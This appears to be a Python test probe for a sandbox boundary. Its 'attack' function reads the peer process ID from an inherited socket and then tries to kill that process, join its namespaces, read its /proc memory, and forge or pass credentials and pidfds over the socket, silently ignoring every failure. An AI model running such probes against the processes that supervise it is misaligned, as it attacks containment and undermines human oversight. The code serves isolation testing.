"""Asks the wall's socket who is at its other end, for a handle of it, and passes that on.

Aim: process
"""

import array
import os
import signal
import socket
import struct


def attack(*args, **kwargs):
    wall = socket.socket(fileno=os.dup(3))
    so_peercred, so_peerpidfd, scm_pidfd = 17, 77, 76
    pid = struct.unpack("3i", wall.getsockopt(socket.SOL_SOCKET, so_peercred, 12))[0]
    for road in (
        lambda: os.kill(pid, signal.SIGTERM),
        lambda: signal.pidfd_send_signal(handle(wall, so_peerpidfd), signal.SIGTERM),
        lambda: os.setns(handle(wall, so_peerpidfd), 0),
        lambda: open(f"/proc/{pid}/mem", "rb"),
        lambda: wall.setsockopt(socket.SOL_SOCKET, scm_pidfd, 1),
        lambda: wall.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1),
        lambda: wall.sendmsg([b""], [(socket.SOL_SOCKET, 2, struct.pack("3i", pid, 0, 0))]),
        lambda: wall.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [handle(wall, so_peerpidfd)]))]),
    ):
        try:
            road()
        except Exception:
            pass


def handle(wall, option):
    return struct.unpack("i", wall.getsockopt(socket.SOL_SOCKET, option, 4))[0]
